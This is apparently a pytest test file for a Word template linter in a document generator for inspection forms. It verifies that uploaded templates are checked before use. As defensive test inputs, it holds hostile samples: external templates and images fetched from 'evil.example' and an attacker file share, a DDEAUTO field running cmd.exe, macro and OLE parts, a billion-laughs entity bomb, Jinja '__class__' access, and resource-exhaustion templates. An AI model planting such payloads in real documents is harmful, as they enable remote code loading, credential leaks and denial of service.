"""A Word template override is checked before it may replace a form's template."""
from __future__ import annotations

import io
import os
import time
import zipfile

import pytest

from docgen.render import DEFAULT_TEMPLATES, Renderer
from docgen.specs import FORMS
from docgen.word import lint_template
from tests.conftest import docx_text, edited_docx


def default(code: str) -> bytes:
    return (DEFAULT_TEMPLATES / f"{code}.docx").read_bytes()



@pytest.mark.parametrize("code", FORMS)
def test_every_default_template_lints_clean(code):
    assert lint_template(default(code), FORMS[code]) == []


def test_a_misspelt_field_is_refused_by_its_dotted_name():
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.nmae }}", 1)
    problems = lint_template(data, FORMS["notice"])
    assert any(p.startswith("未知字段：enterprise.nmae") for p in problems), problems
    assert any("enterprise.name" in p for p in problems if "nmae" in p)  # the suggestion


def test_an_unknown_top_level_name_is_refused():
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }}{{ firm }}", 1)
    assert "未知字段：firm" in lint_template(data, FORMS["notice"])


def test_a_template_without_a_required_field_is_refused_naming_it():
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "某某公司")
    problems = lint_template(data, FORMS["notice"])
    assert "缺少必需字段：enterprise.name（受检单位名称）" in problems


def test_a_template_without_the_copies_loop_is_refused():
    data = default("notice")
    data = edited_docx(data, "{%p for copy in copies %}", "")
    data = edited_docx(data, "{%p endfor %}", "")
    data = edited_docx(data, "{{ copy.label }}", "")
    data = edited_docx(data, "{{ copy.holder }}", "")
    data = edited_docx(data, "{%p if not loop.last %}", "")
    data = edited_docx(data, "{%p endif %}", "")
    assert lint_template(data, FORMS["notice"]) == ["缺少联次循环 {%p for copy in copies %}"]


@pytest.mark.parametrize("data", [b"", b"not a word file", b"PK\x03\x04 not really a zip",
                                  b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512])
def test_a_file_that_is_not_a_docx_is_refused(data):
    problems = lint_template(data, FORMS["notice"])
    assert len(problems) == 1 and "不是有效的 Word 文档" in problems[0]


def test_a_zip_without_a_document_part_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("hello.txt", "hi")
    assert "不是有效的 Word 文档" in lint_template(out.getvalue(), FORMS["notice"])[0]


def test_a_jinja_syntax_error_is_refused_with_its_line():
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }", 1)
    problems = lint_template(data, FORMS["notice"])
    assert len(problems) == 1 and problems[0].startswith("模板语法错误（第 ")
    assert "行" in problems[0]


def test_private_attributes_are_refused():
    data = edited_docx(default("notice"), "{{ enterprise.name }}",
                  "{{ enterprise.name }}{{ copy.__class__ }}", 1)
    assert "不允许使用的属性：__class__" in lint_template(data, FORMS["notice"])


def test_loop_attributes_and_method_calls_on_fields_are_allowed():
    data = edited_docx(default("notice"), "{{ enterprise.name }}",
                  "{{ enterprise.name.strip() }}{{ loop.index }}{{ enterprise['address'] }}", 1)
    assert lint_template(data, FORMS["notice"]) == []


def test_a_template_that_fails_when_filled_is_refused():
    data = edited_docx(default("notice"), "{{ enterprise.name }}",
                  "{{ enterprise.name }}{{ enterprise.name + 1 }}", 1)
    problems = lint_template(data, FORMS["notice"])
    assert len(problems) == 1 and problems[0].startswith("用示例数据试填充失败")


def test_the_renderer_prefers_an_override_and_picks_up_changes_without_restart(
        tmp_path, jincheng, write_trip):
    from docgen.loading import load_trip

    trip = load_trip(write_trip(jincheng))
    sampling = trip.samplings[0]
    renderer = Renderer(override_dir=tmp_path / "overrides")
    assert "第一版标记" not in docx_text(renderer.docx("notice", trip, sampling, False))
    (tmp_path / "overrides").mkdir()
    override = tmp_path / "overrides" / "notice.docx"
    override.write_bytes(edited_docx(default("notice"), "{{ enterprise.name }}",
                                "第一版标记{{ enterprise.name }}", 1))
    assert "第一版标记" in docx_text(renderer.docx("notice", trip, sampling, False))
    replacement = tmp_path / "overrides" / "new.docx"
    replacement.write_bytes(edited_docx(default("notice"), "{{ enterprise.name }}",
                                   "第二版标记{{ enterprise.name }}", 1))
    os.replace(replacement, override)
    text = docx_text(renderer.docx("notice", trip, sampling, False))
    assert "第二版标记" in text and "第一版标记" not in text
    override.unlink()
    assert "第二版标记" not in docx_text(renderer.docx("notice", trip, sampling, False))
    # other forms were never overridden
    assert renderer.template_path("refusal") == DEFAULT_TEMPLATES / "refusal.docx"


# -- nothing that reaches outside the document ---------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = "<w:body>"


def with_parts(data: bytes, edits: dict) -> bytes:
    """The docx with parts changed: part name → function of its text, or bytes for a new part."""
    edits = dict(edits)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            edit = edits.pop(info.filename, None)
            if callable(edit):
                body = edit(body.decode("utf-8")).encode("utf-8")
            dst.writestr(info, body)
        for name, body in edits.items():
            dst.writestr(name, body)
    return out.getvalue()


def add_rel(kind: str, target: str, external: bool):
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rId99" Type="{REL}/{kind}" Target="{target}"{mode}/>'
    return {"word/_rels/document.xml.rels": lambda t: t.replace("</Relationships>",
                                                                rel + "</Relationships>")}


def in_body(xml: str):
    return {"word/document.xml": lambda t: t.replace(BODY, BODY + xml, 1)}


def field(*instructions: str) -> str:
    """A complex field whose instruction is split over runs, as Word writes it."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>'
                   for i in instructions)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')



def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


# { IF 1 = 1 "{ INCLUDETEXT secret.docx }" }: the inner field is judged on its own instruction.
NESTED = ("<w:p>" + _mark("begin") + _instr(' IF 1 = 1 "') + _mark("begin")
          + _instr(" INCLUDETEXT secret.docx ") + _mark("separate") + _mark("end") + _instr('"')
          + _mark("separate") + _mark("end") + "</w:p>")
ATTACHED = ('<w:attachedTemplate r:id="rId99"/>', "<w:zoom")
OLE = ('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
       'DrawAspect="Icon" ObjectID="_1" r:id="rId99"/></w:object></w:r></w:p>')


@pytest.mark.parametrize("edits, reason", [
    (add_rel("hyperlink", "http://example.com/", True), "指向外部的链接（http://example.com/）"),
    (add_rel("image", "file://///attacker/share/x.png", True),
     "指向外部的链接（file://///attacker/share/x.png）"),
    ({"word/_rels/settings.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{REL}/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>').encode(),
      "word/settings.xml": lambda t: t.replace(ATTACHED[1], ATTACHED[0] + ATTACHED[1], 1)},
     "附加了外部模板（attachedTemplate）"),
    ({"word/settings.xml": lambda t: t.replace(ATTACHED[1], ATTACHED[0] + ATTACHED[1], 1)},
     "附加了外部模板（attachedTemplate）"),
    ({**add_rel("subDocument", "sub.docx", False), **in_body('<w:subDoc r:id="rId99"/>')},
     "含有子文档"),
    ({**add_rel("aFChunk", "chunk.mht", False), **in_body('<w:altChunk r:id="rId99"/>'),
      "word/chunk.mht": b"MIME-Version: 1.0"}, "altChunk"),
    ({**add_rel("oleObject", "embeddings/oleObject1.bin", False), **in_body(OLE),
      "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "OLE 对象"),
    (in_body(field(" INCLUDE", 'TEXT "C:\\\\secret.docx" ')), "INCLUDETEXT 域"),
    (in_body(field(' includepicture "http://evil.example/x.png" \\d ')), "INCLUDEPICTURE 域"),
    (in_body(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "DDEAUTO 域"),
    (in_body('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 C:\\\\x.xls "/></w:p>'),
     "LINK 域"),
    (in_body(NESTED), "INCLUDETEXT 域"),
    (in_body(field(" MERGEFIELD {{ enterprise.name }} ")), "域代码中含有模板字段"),
    ({"[Content_Types].xml": lambda t: t.replace("document.main+xml", "document.macroEnabled.main+xml")},
     "含有宏"),
    ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "含有宏（VBA）"),
])
def test_a_template_reaching_outside_the_document_is_refused_with_the_reason(edits, reason):
    problems = lint_template(with_parts(default("notice"), edits), FORMS["notice"])
    assert any(reason in p for p in problems), problems


@pytest.mark.parametrize("part", ["word/document.xml", "word/settings.xml",
                                  "[Content_Types].xml", "word/_rels/document.xml.rels"])
def test_a_dtd_or_entity_declaration_in_any_part_is_refused_before_parsing(part):
    laughs = ('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>')
    started = time.perf_counter()
    problems = lint_template(with_parts(default("notice"), {
        part: lambda t: t.replace("?>", "?>" + laughs, 1)}), FORMS["notice"])
    assert time.perf_counter() - started < 2
    assert f"模板的 {part} 含有 DTD 或实体声明，不能使用" in problems


def test_a_utf16_part_with_a_dtd_is_refused_too():
    data = with_parts(default("notice"), {"word/extra.xml": (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
    ).encode("utf-16")})
    assert "模板的 word/extra.xml 含有 DTD 或实体声明，不能使用" in lint_template(data, FORMS["notice"])


@pytest.mark.parametrize("xml", [
    field(' HYPERLINK \\l "copy2" '), field(" PAGE "), '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>',
    field(' MERGEFIELD link_name '),
])
def test_ordinary_fields_and_internal_links_are_accepted(xml):
    assert lint_template(with_parts(default("notice"), in_body(xml)), FORMS["notice"]) == []


def test_a_hand_placed_unsafe_override_is_refused_when_compiled_for_rendering():
    from docgen.word import TemplateProblem, WordTemplate

    data = with_parts(default("notice"), add_rel("image", "http://evil.example/x.png", True))
    with pytest.raises(TemplateProblem) as info:
        WordTemplate(data, "notice.docx")
    assert "指向外部的链接" in str(info.value)


# -- a template that does too much work --------------------------------------------------------

@pytest.mark.parametrize("tag, reason", [
    ("{{ 'x' * 10**9 }}", "运算结果过大"),
    ("{{ enterprise.name * 10**9 }}", "运算结果过大"),
    ("{{ 10 ** (10 ** 10) }}", "数值过大"),
    ("{{ enterprise.name.ljust(10**9) }}", "宽度或数量过大"),
    ("{{ enterprise.name|center(1000000000) }}", "宽度或数量过大"),
    ("{{ '%1000000000s' % enterprise.name }}", "格式宽度过大"),
    ("{% set ns = namespace(s=enterprise.name) %}{% for c in copies * 40 %}"
     "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}", "运算结果过大"),
    ("{% for a in enterprise.name * 3000 %}{% for b in enterprise.name * 3000 %}"
     "{% endfor %}{% endfor %}", "运算次数过多"),
])
def test_a_template_that_would_work_without_end_is_refused_quickly(tag, reason):
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }}" + tag, 1)
    started = time.perf_counter()
    problems = lint_template(data, FORMS["notice"])
    assert time.perf_counter() - started < 5
    assert len(problems) == 1 and problems[0].startswith("用示例数据试填充失败：") and reason in problems[0]


@pytest.mark.parametrize("loops, reason", [
    ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
     "模板中的 range() 过大（上限 10000 项）"),
    ("{% for a in range(10000) %}{% for b in range(10000) %}{% endfor %}{% endfor %}",
     "模板运算次数过多"),
])
def test_nested_ranges_are_refused_at_upload_quickly(loops, reason):
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }}" + loops, 1)
    started = time.perf_counter()
    problems = lint_template(data, FORMS["notice"])
    assert time.perf_counter() - started < 5
    assert len(problems) == 1 and reason in problems[0], problems


@pytest.mark.parametrize("loops, reason", [
    ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}", "range() 过大"),
    ("{% for a in range(10000) %}{% for b in range(10000) %}{% endfor %}{% endfor %}", "运算次数过多"),
    ("{% for a in range(10000) %}{% for b in range(10000) %}x{% endfor %}{% endfor %}", "运算次数过多"),
    ("{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}", "递归过深"),
    ("{% for b in range(60) %}{{ 'y' * 1000000 }}{% endfor %}", "填充后的文书过大（超过 5000 万个字符）"),
])
def test_a_template_that_reaches_rendering_anyway_is_stopped_with_a_template_problem(loops, reason):
    from docgen.word import TemplateProblem, WordTemplate, sample_context

    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }}" + loops, 1)
    template = WordTemplate(data, "notice.docx")
    started = time.perf_counter()
    with pytest.raises(TemplateProblem) as info:
        template.render(sample_context())
    assert time.perf_counter() - started < 5
    assert str(info.value).startswith("notice.docx：") and reason in str(info.value)


def test_rendering_stops_at_the_deadline():
    from docgen.word import TemplateProblem, WordTemplate, sample_context

    slow = "{% for a in range(3000) %}{{ (enterprise.name * 300)|wordwrap(7) }}{% endfor %}"
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }}" + slow, 1)
    with pytest.raises(TemplateProblem) as info:
        WordTemplate(data, "notice.docx").render(sample_context(), seconds=0.05)
    assert "模板填充超时（超过 0.05 秒）" in str(info.value)


def test_a_customised_template_using_filters_and_loop_helpers_is_accepted():
    custom = ("{{ enterprise.name|upper }}{{ enterprise.name|replace('有限', '') }}"
              "{{ '%s：%s'|format(enterprise.name, enterprise.address) }}"
              "{{ enterprise.name ~ '（' ~ enterprise.credit_code ~ '）' }}"
              "{% if loop.first %}首联{% endif %}{{ enterprise.name[:4] * 2 }}")
    data = edited_docx(default("notice"), "{{ enterprise.name }}", "{{ enterprise.name }}" + custom, 1)
    assert lint_template(data, FORMS["notice"]) == []
